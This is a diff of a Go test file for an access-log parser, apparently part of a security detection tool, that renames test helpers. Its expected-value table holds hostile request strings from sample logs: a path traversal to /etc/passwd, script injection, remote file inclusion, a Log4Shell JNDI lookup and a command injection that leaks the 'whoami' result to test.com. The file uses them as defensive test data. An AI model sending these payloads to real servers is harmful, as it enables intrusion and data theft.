@@ -26,7 +26,7 @@ func textLines(t testing.TB, name string) []string {
 	return strings.Split(strings.TrimRight(string(b), "\n"), "\n")
 }
 
-func mustParser(t testing.TB, opts Options) *Parser {
+func textParser(t testing.TB, opts Options) *Parser {
 	t.Helper()
 	p, err := New(opts)
 	if err != nil {
@@ -37,7 +37,7 @@ func mustParser(t testing.TB, opts Options) *Parser {
 
 // want lists the fields a text line must produce. Host and XFF are checked
 // too: "" there asserts the format carries none.
-type want struct {
+type textWant struct {
 	time    string // RFC 3339, UTC
 	ip      string // "" = invalid address
 	method  string
@@ -58,70 +58,70 @@ func TestParseTextFormats(t *testing.T) {
 	tests := []struct {
 		file string
 		line int // 1-based
-		want want
+		want textWant
 	}{
 		// nginx combined
-		{"nginx_combined.log", 1, want{"2023-10-10T09:06:56Z", "127.0.0.1", "GET", "/NGUHGC", "", 404, "", 0, 125,
+		{"nginx_combined.log", 1, textWant{"2023-10-10T09:06:56Z", "127.0.0.1", "GET", "/NGUHGC", "", 404, "", 0, 125,
 			"Mozilla/5.0 (Windows NT 6.2; rv:36.0) Gecko/20100101 Firefox/36.0", "", "", detectors.FormatNginxCombined}},
-		{"nginx_combined.log", 2, want{"2021-12-02T19:47:51Z", "1.2.3.4", "GET", "/", "author=2", 200, "", 0, 35436,
+		{"nginx_combined.log", 2, textWant{"2021-12-02T19:47:51Z", "1.2.3.4", "GET", "/", "author=2", 200, "", 0, 35436,
 			"Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US) AppleWebKit/533.19.4 (KHTML, like Gecko) Version/5.0.2 Safari/533.18.5", "", "", detectors.FormatNginxCombined}},
-		{"nginx_combined.log", 3, want{"2021-09-29T15:29:58Z", "127.0.0.1", "GET", "/%2fetc%2fpasswd", "", 404, "", 0, 162,
+		{"nginx_combined.log", 3, textWant{"2021-09-29T15:29:58Z", "127.0.0.1", "GET", "/%2fetc%2fpasswd", "", 404, "", 0, 162,
 			"curl/7.68.0", "", "", detectors.FormatNginxCombined}},
-		{"nginx_combined.log", 5, want{"2023-10-10T08:32:31Z", "127.4.3.2", "GET", "/", "8890121518", 200, "", 0, 10701,
+		{"nginx_combined.log", 5, textWant{"2023-10-10T08:32:31Z", "127.4.3.2", "GET", "/", "8890121518", 200, "", 0, 10701,
 			"Mozilla/5.0 (Win 9x 4.90; rv:22.0) Gecko/20200928 Firefox/22.0", "", "", detectors.FormatNginxCombined}},
-		{"nginx_combined.log", 6, want{"2021-09-30T09:14:41Z", "127.0.0.1", "GET", "/foo", "a=<br", 404, "", 0, 162,
+		{"nginx_combined.log", 6, textWant{"2021-09-30T09:14:41Z", "127.0.0.1", "GET", "/foo", "a=<br", 404, "", 0, 162,
 			"curl/7.68.0", "", "", detectors.FormatNginxCombined}},
 		// garbage request lines are kept, with no method or path
-		{"nginx_malformed.log", 5, want{"2023-07-29T17:26:06Z", "1.2.3.4", "", "", "", 400, "", 0, 157,
+		{"nginx_malformed.log", 5, textWant{"2023-07-29T17:26:06Z", "1.2.3.4", "", "", "", 400, "", 0, 157,
 			"", "", "", detectors.FormatNginxCombined}},
 		// nginx main
-		{"nginx_main.log", 1, want{"2023-11-20T14:37:47Z", "89.109.34.234", "GET", "/wp-admin/install.php", "", 200, "", 0, 7542,
+		{"nginx_main.log", 1, textWant{"2023-11-20T14:37:47Z", "89.109.34.234", "GET", "/wp-admin/install.php", "", 200, "", 0, 7542,
 			"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 YaBrowser/23.5.1.750 Yowser/2.5 Safari/537.36", "", "", detectors.FormatNginxMain}},
 		// no trusted proxies: the peer is the client whatever XFF says
-		{"nginx_main.log", 2, want{"2023-11-20T14:37:48Z", "10.0.0.7", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 61,
+		{"nginx_main.log", 2, textWant{"2023-11-20T14:37:48Z", "10.0.0.7", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 61,
 			"curl/8.4.0", "", "203.0.113.9, 198.51.100.23, 10.0.0.5", detectors.FormatNginxMain}},
-		{"nginx_main.log", 3, want{"2023-11-20T14:37:49Z", "10.0.0.7", "GET", "/search", `q=\x22%3E%3Cscript%3E`, 404, "", 0, 153,
+		{"nginx_main.log", 3, textWant{"2023-11-20T14:37:49Z", "10.0.0.7", "GET", "/search", `q=\x22%3E%3Cscript%3E`, 404, "", 0, 153,
 			`Mozilla/5.0 \x22quoted\x22 \"bot\"`, "", "198.51.100.24", detectors.FormatNginxMain}},
 		// Apache common
-		{"apache_common.log", 1, want{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.htpasswd", "", 403, "", 0, 199, "", "", "", detectors.FormatApacheCommon}},
-		{"apache_common.log", 2, want{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.listing", "", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
-		{"apache_common.log", 5, want{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/src/scripture.php", "pageHeaderFile=http://cirt.net/rfiinc.txt??", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
+		{"apache_common.log", 1, textWant{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.htpasswd", "", 403, "", 0, 199, "", "", "", detectors.FormatApacheCommon}},
+		{"apache_common.log", 2, textWant{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.listing", "", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
+		{"apache_common.log", 5, textWant{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/src/scripture.php", "pageHeaderFile=http://cirt.net/rfiinc.txt??", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
 		// Apache combined: the same text as nginx combined, so auto-detect says nginx
-		{"apache_combined.log", 1, want{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "", 0, 203023, mozMac, "", "", detectors.FormatNginxCombined}},
-		{"apache_combined.log", 4, want{"2020-06-08T06:49:01Z", "93.43.209.58", "GET", "/", "", 500, "", 0, 803, "", "", "", detectors.FormatNginxCombined}},
-		{"apache_combined.log", 6, want{"2020-06-08T08:04:43Z", "195.54.160.135", "GET", "/solr/admin/info/system", "wt=json", 500, "", 0, 803,
+		{"apache_combined.log", 1, textWant{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "", 0, 203023, mozMac, "", "", detectors.FormatNginxCombined}},
+		{"apache_combined.log", 4, textWant{"2020-06-08T06:49:01Z", "93.43.209.58", "GET", "/", "", 500, "", 0, 803, "", "", "", detectors.FormatNginxCombined}},
+		{"apache_combined.log", 6, textWant{"2020-06-08T08:04:43Z", "195.54.160.135", "GET", "/solr/admin/info/system", "wt=json", 500, "", 0, 803,
 			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", "", "", detectors.FormatNginxCombined}},
 		// Apache with %D
-		{"apache_latency.log", 1, want{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/start.php", "lang=en", 404, "", 1532 * time.Microsecond, 196, "", "", "", detectors.FormatApacheCommon}},
-		{"apache_latency.log", 2, want{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "bob", 23518 * time.Microsecond, 203023, mozMac, "", "", detectors.FormatApacheCombined}},
-		{"apache_latency.log", 3, want{"2020-06-08T06:49:01Z", "93.43.209.58", "POST", "/login", "", 500, "", 1002 * time.Microsecond, 0, "", "", "", detectors.FormatApacheCombined}},
+		{"apache_latency.log", 1, textWant{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/start.php", "lang=en", 404, "", 1532 * time.Microsecond, 196, "", "", "", detectors.FormatApacheCommon}},
+		{"apache_latency.log", 2, textWant{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "bob", 23518 * time.Microsecond, 203023, mozMac, "", "", detectors.FormatApacheCombined}},
+		{"apache_latency.log", 3, textWant{"2020-06-08T06:49:01Z", "93.43.209.58", "POST", "/login", "", 500, "", 1002 * time.Microsecond, 0, "", "", "", detectors.FormatApacheCombined}},
 		// Traefik CLF
-		{"traefik_clf.log", 2, want{"2021-12-08T09:16:05Z", "172.17.0.1", "GET", "/upload.asp", "test=toto&tata=test", 200, "", 0, 405, "", "", "", detectors.FormatTraefikCLF}},
-		{"traefik_clf.log", 4, want{"2021-12-08T13:59:39Z", "172.17.0.1", "GET", "/index", "toto=tata", 200, "", time.Millisecond, 352, "Nikto", "", "", detectors.FormatTraefikCLF}},
-		{"traefik_clf.log", 5, want{"2022-09-28T13:38:04Z", "172.17.1.1", "GET", "/mobileadmin/home.cs", "", 0, "", 0, 0, "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:006607)", "", "", detectors.FormatTraefikCLF}},
-		{"traefik_clf.log", 7, want{"2024-11-24T13:40:15Z", "172.17.1.3", "GET", "/api/users", "", 200, "", 25 * time.Millisecond, 450, "curl/7.68.0", "", "", detectors.FormatTraefikCLF}},
+		{"traefik_clf.log", 2, textWant{"2021-12-08T09:16:05Z", "172.17.0.1", "GET", "/upload.asp", "test=toto&tata=test", 200, "", 0, 405, "", "", "", detectors.FormatTraefikCLF}},
+		{"traefik_clf.log", 4, textWant{"2021-12-08T13:59:39Z", "172.17.0.1", "GET", "/index", "toto=tata", 200, "", time.Millisecond, 352, "Nikto", "", "", detectors.FormatTraefikCLF}},
+		{"traefik_clf.log", 5, textWant{"2022-09-28T13:38:04Z", "172.17.1.1", "GET", "/mobileadmin/home.cs", "", 0, "", 0, 0, "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:006607)", "", "", detectors.FormatTraefikCLF}},
+		{"traefik_clf.log", 7, textWant{"2024-11-24T13:40:15Z", "172.17.1.3", "GET", "/api/users", "", 200, "", 25 * time.Millisecond, 450, "curl/7.68.0", "", "", detectors.FormatTraefikCLF}},
 		// AWS API Gateway CLF presets
-		{"aws_apigw_clf.log", 1, want{"2023-06-10T15:36:28Z", "1.128.0.0", "GET", "/pets", "", 200, "", 0, 184, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
-		{"aws_apigw_clf.log", 2, want{"2023-06-10T15:36:29Z", "1.128.0.0", "POST", "/pets/{petId}", "", 403, "arn:aws:iam::123456789012:user/alice", 0, 61, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
-		{"aws_apigw_clf.log", 3, want{"2023-06-09T12:54:08Z", "1.128.0.0", "GET", "/", "", 200, "", 0, 47140, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
-		{"aws_apigw_clf.log", 4, want{"2023-06-09T12:54:09Z", "1.128.0.0", "POST", "/login", "", 401, "", 0, 28, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		{"aws_apigw_clf.log", 1, textWant{"2023-06-10T15:36:28Z", "1.128.0.0", "GET", "/pets", "", 200, "", 0, 184, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		{"aws_apigw_clf.log", 2, textWant{"2023-06-10T15:36:29Z", "1.128.0.0", "POST", "/pets/{petId}", "", 403, "arn:aws:iam::123456789012:user/alice", 0, 61, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		{"aws_apigw_clf.log", 3, textWant{"2023-06-09T12:54:08Z", "1.128.0.0", "GET", "/", "", 200, "", 0, 47140, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		{"aws_apigw_clf.log", 4, textWant{"2023-06-09T12:54:09Z", "1.128.0.0", "POST", "/login", "", 401, "", 0, 28, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
 		// HAProxy
-		{"haproxy.log", 1, want{"2015-01-14T12:48:57.127Z", "117.136.40.129", "GET", "/xxx/xxx", "", 200, "", 173 * time.Millisecond, 739, "", "", "", detectors.FormatHAProxy}},
-		{"haproxy.log", 2, want{"2021-03-12T06:56:28.088Z", "22.118.26.10", "GET", "/", "", 200, "", 1264 * time.Millisecond, 20602, "", "", "", detectors.FormatHAProxy}},
-		{"haproxy.log", 3, want{"2009-02-06T12:14:14.655Z", "10.0.1.2", "GET", "/index.html", "lang=fr", 200, "", 109 * time.Millisecond, 2750, "", "", "", detectors.FormatHAProxy}},
+		{"haproxy.log", 1, textWant{"2015-01-14T12:48:57.127Z", "117.136.40.129", "GET", "/xxx/xxx", "", 200, "", 173 * time.Millisecond, 739, "", "", "", detectors.FormatHAProxy}},
+		{"haproxy.log", 2, textWant{"2021-03-12T06:56:28.088Z", "22.118.26.10", "GET", "/", "", 200, "", 1264 * time.Millisecond, 20602, "", "", "", detectors.FormatHAProxy}},
+		{"haproxy.log", 3, textWant{"2009-02-06T12:14:14.655Z", "10.0.1.2", "GET", "/index.html", "lang=fr", 200, "", 109 * time.Millisecond, 2750, "", "", "", detectors.FormatHAProxy}},
 		// Envoy default text: the client is the right-most XFF hop
-		{"envoy_text.log", 1, want{"2016-04-15T20:17:00.31Z", "10.0.35.28", "POST", "/api/v1/locations", "", 204, "", 226 * time.Millisecond, 0, "nsq2http", "locations", "10.0.35.28", detectors.FormatEnvoyText}},
-		{"envoy_text.log", 2, want{"2025-12-31T16:37:40.479Z", "10.0.0.12", "GET", "/assets/image.webp", "v=3", 200, "", 11 * time.Millisecond, 121258,
+		{"envoy_text.log", 1, textWant{"2016-04-15T20:17:00.31Z", "10.0.35.28", "POST", "/api/v1/locations", "", 204, "", 226 * time.Millisecond, 0, "nsq2http", "locations", "10.0.35.28", detectors.FormatEnvoyText}},
+		{"envoy_text.log", 2, textWant{"2025-12-31T16:37:40.479Z", "10.0.0.12", "GET", "/assets/image.webp", "v=3", 200, "", 11 * time.Millisecond, 121258,
 			"Mozilla/4.0 (Windows NT 9.0; Win64; x64; rv:136.0) Gecko/20101 Firefox/136.0", "www.example.com", "198.51.100.7, 10.0.0.12", detectors.FormatEnvoyText}},
-		{"envoy_text.log", 3, want{"2025-12-31T17:22:06.456Z", "192.168.1.45", "POST", "/login", "", 429, "", 0, 18, "python-requests/2.31.0", "auth.example.com", "192.168.1.45", detectors.FormatEnvoyText}},
+		{"envoy_text.log", 3, textWant{"2025-12-31T17:22:06.456Z", "192.168.1.45", "POST", "/login", "", 429, "", 0, 18, "python-requests/2.31.0", "auth.example.com", "192.168.1.45", detectors.FormatEnvoyText}},
 		// AWS ALB
-		{"aws_alb.log", 1, want{"2023-04-26T12:22:55.463821Z", "192.168.1.10", "GET", "/", "", 200, "", time.Millisecond, 366, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
-		{"aws_alb.log", 2, want{"2023-04-26T12:23:00.186641Z", "192.168.1.11", "GET", "/robots.txt", "", 200, "", 171 * time.Millisecond, 57, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
-		{"aws_alb.log", 5, want{"2023-04-26T19:53:47.8094Z", "192.168.1.14", "GET", "/.awscfg", "", 404, "", 0, 167, "${jndi:ldap://${java:version}.domain/a}", "api.example.com", "", detectors.FormatAWSALB}},
-		{"aws_alb.log", 7, want{"2023-04-26T19:53:56.715663Z", "192.168.1.16", "GET", "/remote_agent.php", "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com", 404, "", 0, 167,
+		{"aws_alb.log", 1, textWant{"2023-04-26T12:22:55.463821Z", "192.168.1.10", "GET", "/", "", 200, "", time.Millisecond, 366, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
+		{"aws_alb.log", 2, textWant{"2023-04-26T12:23:00.186641Z", "192.168.1.11", "GET", "/robots.txt", "", 200, "", 171 * time.Millisecond, 57, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
+		{"aws_alb.log", 5, textWant{"2023-04-26T19:53:47.8094Z", "192.168.1.14", "GET", "/.awscfg", "", 404, "", 0, 167, "${jndi:ldap://${java:version}.domain/a}", "api.example.com", "", detectors.FormatAWSALB}},
+		{"aws_alb.log", 7, textWant{"2023-04-26T19:53:56.715663Z", "192.168.1.16", "GET", "/remote_agent.php", "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com", 404, "", 0, 167,
 			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36", "cacti.example.com", "", detectors.FormatAWSALB}},
 	}
-	p := mustParser(t, Options{})
+	p := textParser(t, Options{})
 	files := map[string][]string{}
 	for _, tc := range tests {
 		if files[tc.file] == nil {
@@ -133,7 +133,7 @@ func TestParseTextFormats(t *testing.T) {
 			if err := p.Parse(line, &ev); err != nil {
 				t.Fatalf("Parse: %v\nline: %s", err, line)
 			}
-			checkEvent(t, &ev, tc.want)
+			checkTextEvent(t, &ev, tc.want)
 			if ev.Raw != line {
 				t.Errorf("Raw is not the line")
 			}
@@ -141,7 +141,7 @@ func TestParseTextFormats(t *testing.T) {
 	}
 }
 
-func checkEvent(t *testing.T, ev *detectors.Event, w want) {
+func checkTextEvent(t *testing.T, ev *detectors.Event, w textWant) {
 	t.Helper()
 	wt, err := time.Parse(time.RFC3339Nano, w.time)
 	if err != nil {
@@ -157,7 +157,7 @@ func checkEvent(t *testing.T, ev *detectors.Event, w want) {
 	if ev.ClientIP != wip {
 		t.Errorf("ClientIP = %v, want %v", ev.ClientIP, wip)
 	}
-	got := want{w.time, w.ip, ev.Method, ev.Path, ev.Query, ev.Status, ev.User, ev.Latency, ev.Bytes, ev.UserAgent, ev.Host, ev.XForwardedFor, ev.Format}
+	got := textWant{w.time, w.ip, ev.Method, ev.Path, ev.Query, ev.Status, ev.User, ev.Latency, ev.Bytes, ev.UserAgent, ev.Host, ev.XForwardedFor, ev.Format}
 	if got != w {
 		t.Errorf("got  %+v\nwant %+v", got, w)
 	}
@@ -184,10 +184,10 @@ func TestParseTextFiles(t *testing.T) {
 		{"haproxy_badreq.log", 0, ReasonBadField},
 		{"haproxy_not_http.log", 0, ReasonBadField},
 	}
-	p := mustParser(t, Options{})
+	p := textParser(t, Options{})
 	for _, tc := range tests {
 		t.Run(tc.file, func(t *testing.T) {
-			forced := mustParser(t, Options{Format: tc.format})
+			forced := textParser(t, Options{Format: tc.format})
 			for i, line := range textLines(t, tc.file) {
 				var ev detectors.Event
 				err := p.Parse(line, &ev)
@@ -236,7 +236,7 @@ func TestParseForcedFormat(t *testing.T) {
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
-			p := mustParser(t, Options{Format: tc.format})
+			p := textParser(t, Options{Format: tc.format})
 			var ev detectors.Event
 			err := p.Parse(tc.line, &ev)
 			if tc.want == detectors.FormatUnknown {
@@ -283,7 +283,7 @@ func TestParseTrustedProxies(t *testing.T) {
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
-			p := mustParser(t, Options{TrustedProxies: tc.trusted})
+			p := textParser(t, Options{TrustedProxies: tc.trusted})
 			var ev detectors.Event
 			if err := p.Parse(tc.line, &ev); err != nil {
 				t.Fatal(err)
@@ -327,7 +327,7 @@ func TestParseRejects(t *testing.T) {
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
-			p := mustParser(t, Options{MaxLineBytes: tc.max})
+			p := textParser(t, Options{MaxLineBytes: tc.max})
 			ev := detectors.Event{Method: "stale", Status: 999}
 			err := p.Parse(tc.line, &ev)
 			var pe *Error
@@ -357,7 +357,7 @@ func TestParseTruncatedTail(t *testing.T) {
 		{`46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /x HTTP/1.1" 200 235 "http://exa`, ""},
 		{`10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "GET /x HTTP/1.1" 200 1 "-" "curl/8.4.0" "203.0.113.9, 198.51`, "curl/8.4.0"},
 	}
-	p := mustParser(t, Options{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})
+	p := textParser(t, Options{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})
 	for _, tc := range tests {
 		var ev detectors.Event
 		if err := p.Parse(tc.line, &ev); err != nil {
@@ -375,7 +375,7 @@ func TestParseTruncatedTail(t *testing.T) {
 
 func TestParseTrimsLineEnd(t *testing.T) {
 	line := textLines(t, "nginx_combined.log")[0]
-	p := mustParser(t, Options{})
+	p := textParser(t, Options{})
 	var ev detectors.Event
 	if err := p.Parse(line+"\r\n", &ev); err != nil {
 		t.Fatal(err)
@@ -431,7 +431,7 @@ func TestParseElasticApacheSample(t *testing.T) {
 	}
 	sc := bufio.NewScanner(zr)
 	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
-	p := mustParser(t, Options{})
+	p := textParser(t, Options{})
 	var ev detectors.Event
 	lines, parsed := 0, 0
 	failed := map[Reason]int{}
